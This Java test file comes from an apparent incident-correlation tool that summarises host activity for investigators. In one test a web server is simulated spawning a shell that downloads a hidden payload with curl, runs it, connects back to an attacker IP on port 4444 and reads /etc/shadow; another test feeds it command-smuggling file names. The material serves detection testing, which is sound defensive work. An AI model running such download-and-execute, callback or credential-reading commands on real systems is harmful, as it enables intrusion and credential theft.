package io.tadoru.correlator.activity;

import static org.assertj.core.api.Assertions.assertThat;

import io.tadoru.correlator.Alert;
import io.tadoru.correlator.Edge;
import io.tadoru.correlator.Edge.Kind;
import io.tadoru.correlator.Host;
import io.tadoru.correlator.Incident;
import io.tadoru.correlator.Incident.Activity;
import io.tadoru.correlator.Node;
import io.tadoru.correlator.Node.ProcessNode;
import io.tadoru.correlator.Options;
import io.tadoru.correlator.Options.Mode;
import io.tadoru.correlator.RandomHistory;
import io.tadoru.correlator.investigation.Investigation;
import java.util.ArrayList;
import java.util.Collection;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.stream.LongStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What activities must hold in every history, and what they say of small ones. Samples: see alert-hooks. */
class ActivitiesTest {
    private static final String ATTACKER = "203.0.113.9";

    static LongStream seeds() {
        return LongStream.rangeClosed(1, 60);
    }

    @ParameterizedTest(name = "seed {0}")
    @MethodSource("seeds")
    void everyNodeTakesPartInExactlyOne(long seed) {
        RandomHistory history = new RandomHistory(seed, 300);
        for (Mode mode : Mode.values()) {
            Incident incident = new Investigation(history.host().store(), "test").of(history.alert(), Options.of(mode));
            hold(incident);
            assertThat(Activities.of(incident)).isEqualTo(incident.activities());
        }
    }

    private static void hold(Incident incident) {
        List<Activity> all = incident.activities();
        assertThat(all.stream().map(Activity::nodes).flatMap(Collection::stream))
                .containsExactlyInAnyOrderElementsOf(
                        incident.nodes().stream().map(Node::id).toList());
        Map<String, Activity> before = new HashMap<>();
        for (Activity a : all) {
            assertThat(a.first()).isLessThanOrEqualTo(a.last());
            assertThat(a.words()).asString().isNotBlank().hasSizeLessThan(4000);
            assertThat(a.kind()).isEqualTo(a.parent().isEmpty() ? "session" : "subtree");
            if (!a.parent().isEmpty()) {
                Activity parent = Objects.requireNonNull(before.get(a.parent()));
                assertThat(parent.first()).isLessThanOrEqualTo(a.first());
                assertThat(parent.last()).isGreaterThanOrEqualTo(a.last());
                assertThat(parent.user()).isEqualTo(a.user());
                assertThat(a.nodes()).contains(a.root());
            }
            before.put(a.id(), a);
        }
        // No event of a process lies outside its activity's time.
        for (Edge e : incident.edges()) {
            Activity of = all.stream()
                    .filter(a -> a.nodes().contains(Words.actor(e)))
                    .findFirst()
                    .orElseThrow();
            assertThat(e.first()).isBetween(of.first(), of.last());
            assertThat(e.last()).isBetween(of.first(), of.last());
        }
    }

    private static List<String> words(Host host) {
        Incident incident = new Investigation(host.store(), "test").of(alert(60), Options.of(Mode.CAUSAL));
        hold(incident);
        return incident.activities().stream()
                .map(a -> (a.parent().isEmpty() ? "" : "  ") + a.user() + ": " + a.words())
                .toList();
    }

    private static Alert alert(double seconds) {
        return new Alert(Host.time(seconds), "192.0.2.5", -1, ATTACKER, 4444, "tcp", "", -1);
    }

    @Test
    void aServiceWithoutLoginIsToldByItsRootAndAShellWithItsCommandsIsOne() {
        Host host = new Host("web-1").process(100, 1, "/usr/sbin/httpd");
        host.at(1).exec(100, "/usr/sbin/httpd", "httpd", "-D");
        host.at(58).accept(100, ATTACKER, 51000, 57).fork(100, 200).exec(200, "/bin/sh", "sh", "-c", "id; curl x");
        host.fork(200, 201).exec(201, "/usr/bin/id", "id").exit(201);
        host.tick().fork(200, 202).exec(202, "/usr/bin/curl", "curl", "-o", "/tmp/.x", "http://x/");
        host.connect(202, ATTACKER, 80).create(202, "/tmp/.x", 70).close(202).exit(202);
        host.at(59)
                .fork(200, 203)
                .execFile(203, "/tmp/.x", 70, "/tmp/.x")
                .at(59.9)
                .connect(203, ATTACKER, 4444);
        host.at(60).fork(203, 204).exec(204, "/bin/cat", "cat", "/etc/shadow").read(204, "/etc/shadow", 71);
        assertThat(words(host))
                .containsExactly(
                        "1000: no login: httpd accepted connections from 203.0.113.9",
                        "  1000: sh connected to 203.0.113.9:80 with curl; wrote /tmp/.x with curl; ran id,"
                                + " curl -o /tmp/.x http://x/ and .x",
                        "  1000: .x executed /tmp/.x, which curl had written; connected to 203.0.113.9:4444;"
                                + " read /etc/shadow (holds credentials) with cat; ran cat /etc/shadow");
    }

    // ---- incidents by hand ------------------------------------------------------------------------------------------

    private final List<Node> nodes = new ArrayList<>();
    private final List<Edge> edges = new ArrayList<>();

    private String process(int pid, int ppid, String comm, String uid, String auid, String session, String... argv) {
        String id = "p" + pid;
        nodes.add(new ProcessNode(
                id,
                Node.Role.CONTEXT,
                List.of(),
                "h",
                pid,
                ppid,
                comm,
                "/usr/bin/" + comm,
                argv.length == 0 ? List.of() : List.of(new Node.Command(pid, "/usr/bin/" + comm, List.of(argv), "/")),
                new Node.User(uid, "", auid, auid.isEmpty() ? "" : "alice", session),
                pid,
                true,
                null));
        if (nodes.stream().anyMatch(n -> n.id().equals("p" + ppid))) {
            edge("p" + ppid, id, Kind.FORKED);
        }
        return id;
    }

    private String file(String id, String path) {
        nodes.add(new Node.FileNode(id, Node.Role.CONTEXT, List.of(), "h", List.of(path), 1, ""));
        return id;
    }

    private void edge(String from, String to, Kind kind) {
        int n = edges.size() + 1;
        edges.add(new Edge(n, from, to, kind, "call", "success", n, n, 1, false, List.of()));
    }

    private List<Activity> activities() {
        Incident empty = new Investigation(new Host("h").store(), "test").of(alert(0), Options.of(Mode.CAUSAL));
        Incident incident = new Incident(
                empty.alert(),
                "h",
                null,
                nodes,
                edges,
                List.of(),
                empty.coverage(),
                false,
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                null,
                empty.options(),
                "test");
        List<Activity> activities = Activities.of(incident);
        hold(incident.with(nodes, List.of(), activities));
        return activities;
    }

    @Test
    void sudoWithinASessionIsNamed() {
        process(10, 1, "bash", "1000", "1000", "7", "-bash");
        process(11, 10, "sudo", "1000", "1000", "7", "sudo", "tee", "/etc/x");
        String tee = process(12, 11, "tee", "0", "1000", "7", "tee", "/etc/x");
        edge(tee, file("f1", "/etc/x"), Kind.WROTE);
        assertThat(activities()).singleElement().satisfies(a -> {
            assertThat(a.user()).isEqualTo("alice");
            assertThat(a.session()).isEqualTo("7");
            assertThat(a.root()).isEqualTo("p10");
            assertThat(a.words())
                    .asString()
                    .isEqualTo("tee changed user from 1000 to root with sudo; wrote /etc/x; ran sudo tee /etc/x");
        });
    }

    @Test
    void cronWithoutLoginBeginsTheSessionOfAJob() {
        process(10, 1, "cron", "0", "", "");
        process(11, 10, "sh", "1000", "1000", "8", "sh", "job.sh");
        assertThat(activities())
                .extracting(a -> a.user() + "|" + a.session() + "|" + a.words())
                .containsExactly(
                        "0||no login: cron began session 8 of alice",
                        "alice|8|sh changed user from root to 1000 with cron; ran sh job.sh");
    }

    @Test
    void namesAreKeptButBoundedAndCannotBeTakenForWords() {
        String sh = process(10, 1, "sh", "0", "", "", "sh");
        edge(sh, file("f1", "/tmp/x; connected to 192.0.2.1"), Kind.WROTE);
        edge(sh, file("f2", "/tmp/\u202E\"<b>"), Kind.DELETED);
        process(11, 10, "a, b", "0", "", "", "a, b", "y".repeat(300_000));
        assertThat(activities())
                .singleElement()
                .satisfies(a -> assertThat(a.words())
                        .asString()
                        .isEqualTo(
                                "no login: sh wrote \"/tmp/x; connected to 192.0.2.1\"; deleted \"/tmp/\u202E\"\"<b>\"; ran "
                                        + "\"a, b\" " + "y".repeat(53) + "…"));
    }

    @Test
    void likeSiblingsAreToldTogetherAndAChainOfThousandsEnds() {
        process(10, 1, "make", "0", "", "", "make");
        for (int i = 0; i < 40; i++) {
            int pid = 100 + 20 * i;
            process(pid, 10, "cc", "0", "", "", "cc", "-c", "f" + i + ".c");
            for (int k = 1; k < 12; k++) {
                process(pid + k, pid, "as", "0", "", "", "as", "-o", i + "-" + k + ".o");
            }
        }
        List<Activity> told = activities();
        assertThat(told).hasSize(1);
        assertThat(told.get(0).words()).asString().isEqualTo("no login: make ran cc ×40 and as ×440");

        nodes.clear();
        edges.clear();
        for (int i = 0; i < 5000; i++) {
            process(1000 + i, 999 + i, "sh", "0", "", "", "sh", Integer.toString(i));
            for (int k = 0; i % 100 == 0 && k < 12; k++) {
                edge("p" + (1000 + i), file("f" + i + "-" + k, "/tmp/" + i + "-" + k), Kind.WROTE);
            }
        }
        assertThat(activities().size()).isLessThan(10);
    }

    @Test
    void whatNobodyTouchedIsStillThere() {
        file("f1", "/tmp/x");
        assertThat(activities())
                .singleElement()
                .satisfies(a -> assertThat(a.words()).asString().isEqualTo("nobody known"));
        assertThat(Stream.of(activities().get(0).nodes())).containsExactly(List.of("f1"));
    }
}
